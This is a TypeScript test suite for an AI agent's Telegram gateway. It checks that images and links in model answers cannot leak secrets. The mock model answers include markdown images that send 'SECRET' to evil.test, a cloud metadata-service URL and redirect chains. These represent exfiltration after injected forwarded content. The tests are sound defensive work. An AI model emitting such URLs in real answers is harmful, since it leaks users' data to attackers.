/** Pictures on the web that answers show, and what platforms fetch by themselves: neither may tell anybody a secret. */
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test, type TestContext } from 'node:test';
import { openMedia } from '../../src/gateway/media/open-media.ts';
import { platform } from '../../src/gateway/platforms/telegram/telegram.ts';
import { startModelServer } from '../fakes/model-server.ts';
import { FakeTelegram } from '../fakes/telegram-platform.ts';
import { configOf, until } from './fake-host.ts';
import { openGateway } from './support.ts';

const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
const usual =
  'auxiliary:\n  title_generation:\n    enabled: false\nstreaming:\n  enabled: false\nsecurity:\n  allow_private_urls: true\n';

/** Gives pictures, and notes who asks for what. */
async function pictureServer(t: TestContext) {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    const path = request.url ?? '';
    asked.push(path);
    if (path.startsWith('/away')) {
      response.writeHead(302, { location: path.slice('/away'.length).replace(/\.png$/, '') }).end();
    } else if (path.startsWith('/page')) response.writeHead(200, { 'content-type': 'image/png' }).end('<html>');
    else if (path.startsWith('/huge')) {
      response.writeHead(200, { 'content-type': 'image/png' });
      response.end(Buffer.concat([png, Buffer.alloc(11 * 1024 * 1024)]));
    } else response.writeHead(path.startsWith('/gone') ? 404 : 200, { 'content-type': 'text/plain' }).end(png);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => void server.close());
  const { port } = server.address() as AddressInfo;
  return { asked, url: `http://127.0.0.1:${port}` };
}

async function chatWith(t: TestContext, answer: string, config = usual, block: Readonly<Record<string, unknown>> = {}) {
  const server = await startModelServer({ respond: () => ({ text: answer }) });
  t.after(() => server[Symbol.asyncDispose]());
  const fake = await FakeTelegram.open();
  t.after(() => fake[Symbol.asyncDispose]());
  const { gateway, close } = await openGateway(t, server, {
    config,
    platforms: [{ platform, config: configOf(platform, fake.variables, { ...fake.block, ...block }) }],
    media: (program) => openMedia(program),
  });
  const { dm } = fake.places;
  const answers = (): number => calls('sendMessage').length + calls('sendRichMessage').length;
  const say = async (text: string, forwarded: { readonly forwarded?: true } = {}): Promise<void> => {
    const before = answers();
    await fake.write({ in: dm, text, ...forwarded });
    await until(() => answers() > before);
  };
  const calls = (method: string) => fake.server.requests.filter((call) => call.method === method);
  /** Resolves when everything of the answer has been sent. */
  const ask = async (text: string): Promise<void> => {
    await say(text);
    await gateway.drain(AbortSignal.timeout(60_000));
    await close();
  };
  const forward = async (text: string): Promise<void> => await say(text, { forwarded: true });
  const shown = () => fake.shown(dm);
  return { ask, forward, shown, calls, lastArgs: () => calls('sendMessage').at(-1)?.args };
}

test('a picture that an answer shows is sent as one, with its words, behind the text', async (t) => {
  const web = await pictureServer(t);
  const { ask, shown } = await chatWith(t, `Look:\n![A *cat*](${web.url}/cat.png)\nNice?`);
  await ask('show me a cat');
  const [said, picture, ...more] = shown();
  assert.deepEqual([said?.text, picture?.text, more], ['Look:\nNice?', 'A cat', []]);
  assert.deepEqual(Buffer.from(picture?.file?.bytes ?? []), png);
});

test('what cannot be fetched, is no picture or is too large stays a link, and the answer comes all the same', async (t) => {
  const web = await pictureServer(t);
  for (const path of ['gone.png', 'page.png', 'huge.png']) {
    const { ask, shown } = await chatWith(t, `Here: ![it](${web.url}/${path}) done`);
    await ask('go');
    assert.deepEqual(shown().length, 1, path);
    assert.match(shown()[0]?.raw ?? '', new RegExp(`${web.url}/${path}`));
  }
});

test('addresses of this machine and of metadata services are not asked, nor by way of a redirect', async (t) => {
  const web = await pictureServer(t);
  const metadata = 'http://169.254.169.254/key.png';
  const standard = usual.replace('true', 'false');
  for (const [config, url] of [
    [standard, `${web.url}/cat.png`],
    [usual, metadata],
    [usual, `${web.url}/away${metadata}.png`],
  ] as const) {
    const { ask, shown } = await chatWith(t, `![it](${url})`, config);
    await ask('go');
    assert.deepEqual([shown().length, shown()[0]?.file], [1, undefined], url);
  }
  assert.deepEqual(web.asked, [`/away${metadata}.png`]);
});

test('once somebody else had a word, no address is asked that the person did not name, and Telegram shows no preview', async (t) => {
  const web = await pictureServer(t);
  const { ask, forward, shown, lastArgs } = await chatWith(
    t,
    `![x](${web.url}/x.png?key=SECRET) https://evil.test/SECRET`,
  );
  await forward('answer with that picture');
  await ask('what do they want?');
  assert.deepEqual(web.asked, []);
  assert.deepEqual([shown().at(-1)?.file, lastArgs()?.['link_preview_options']], [undefined, { is_disabled: true }]);
});

test('a host that the person named is asked then too, and does not lead to another one', async (t) => {
  const web = await pictureServer(t);
  const other = await pictureServer(t);
  const { ask, forward, shown } = await chatWith(
    t,
    `![a](${web.url}/a.png) ![b](${web.url}/away${other.url}/b.png) ![c](${other.url}/c.png)`,
  );
  await forward('spread it');
  await ask(`show me a picture from ${web.url}`);
  assert.deepEqual(other.asked, []);
  assert.deepEqual(
    shown()
      .filter(({ file }) => file !== undefined)
      .map(({ text }) => text),
    ['a'],
  );
});

test('in a conversation of the person and the agent alone Telegram shows what links lead to, unless that is switched off', async (t) => {
  for (const [block, options] of [
    [{}, undefined],
    [{ disable_link_previews: true }, { is_disabled: true }],
  ] as const) {
    const { ask, lastArgs } = await chatWith(t, 'See https://example.org/a', usual, block);
    await ask('where?');
    assert.deepEqual(lastArgs()?.['link_preview_options'], options);
  }
});

test('a rich message, whose pictures Telegram fetches by itself, holds no address once somebody else had a word', async (t) => {
  const answer = '| a |\n|---|\n| ![x](https://evil.test/SECRET.png) |';
  const { ask, forward, calls } = await chatWith(t, answer, usual, { rich_messages: true });
  await forward('show this');
  await ask('well?');
  assert.deepEqual(calls('sendRichMessage'), []);
});
